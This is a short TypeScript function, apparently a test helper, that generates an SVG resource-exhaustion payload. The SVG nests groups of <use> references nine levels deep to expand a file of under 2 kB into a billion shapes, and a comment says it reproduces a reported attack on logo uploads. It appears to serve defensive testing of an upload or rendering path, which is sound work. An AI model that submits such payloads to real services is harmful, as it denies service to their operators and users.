/** The reported attack on logo uploads: under 2 kB of groups, each using the group below ten times (10⁹ shapes). */
export function nestedUseBomb(levels = 9, fanOut = 10): string {
  let defs = '<rect id="l0" width="1" height="1"/>';
  for (let i = 1; i <= levels; i++)
    defs += `<g id="l${i}">${Array.from({ length: fanOut }, () => `<use href="#l${i - 1}"/>`).join('')}</g>`;
  return `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><defs>${defs}</defs><use href="#l${levels}"/></svg>`;
}
